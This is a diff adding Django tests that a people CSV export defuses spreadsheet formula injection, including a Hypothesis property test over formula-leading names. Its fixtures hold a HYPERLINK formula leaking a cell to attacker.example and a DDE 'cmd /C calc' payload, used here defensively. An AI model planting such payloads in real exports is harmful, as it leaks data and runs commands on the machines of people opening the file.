@@ -14,11 +14,14 @@ from django.core.management import call_command
 from django.db import DEFAULT_DB_ALIAS, DatabaseError, connection, connections
 from django.http import StreamingHttpResponse
 from django.urls import reverse
+from hypothesis import given
+from hypothesis import strategies as st
 
 from cases.models import Hearing
-from casetracker.listing import CSV_INCOMPLETE, EXPORT_CHUNK, JSON_INCOMPLETE
+from casetracker.listing import CSV_INCOMPLETE, EXPORT_CHUNK, FORMULA_STARTS, JSON_INCOMPLETE
 from casetracker.publication import Status
 from tests import factories as f
+from tests.hostile.strategies import hostile_settings
 from tests.public.conftest import build_world
 
 pytestmark = pytest.mark.django_db
@@ -213,3 +216,39 @@ def test_an_export_the_database_fails_during_does_not_look_complete(reader, fmt)
     if fmt == "json":
         with pytest.raises(json.JSONDecodeError):
             json.loads(body)
+
+
+def exported_csv(reader) -> list[list[str]]:
+    response = reader.get(reverse("people:person_export", args=["csv"]))
+    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+
+
+FORMULA = '=HYPERLINK("https://attacker.example/?leak="&A1,"Open the case file")'
+
+
+def test_a_name_that_is_a_formula_reaches_the_csv_as_text(reader, db):
+    """A spreadsheet would run the cell; a leading ' makes it text (OWASP, "CSV Injection")."""
+    f.PersonFactory(name=FORMULA, native_name="@SUM(1+1)*cmd|' /C calc'!A0")
+    [header, row] = exported_csv(reader)
+    cells = dict(zip(header, row, strict=True))
+    assert (cells["name"], cells["native_name"]) == (f"'{FORMULA}", "'@SUM(1+1)*cmd|' /C calc'!A0")
+
+    response = reader.get(reverse("people:person_export", args=["json"]))
+    [record] = json.loads(b"".join(response.streaming_content))
+    assert record["name"] == FORMULA, "JSON is read by programs, and keeps the name as it is"
+
+
+# Text a person's name may hold, often starting with what a spreadsheet takes for a formula.
+names = st.tuples(
+    st.sampled_from(["", *FORMULA_STARTS]),
+    st.text(st.characters(blacklist_categories=["Cs"], blacklist_characters="\x00"), max_size=30),
+).map("".join)
+
+
+@hostile_settings
+@given(name=names, native_name=names)
+def test_no_csv_cell_starts_as_a_formula(reader, db, name, native_name):
+    f.PersonFactory(name=name, native_name=native_name)
+    for row in exported_csv(reader)[1:]:
+        for cell in row:
+            assert not cell.startswith(FORMULA_STARTS), row
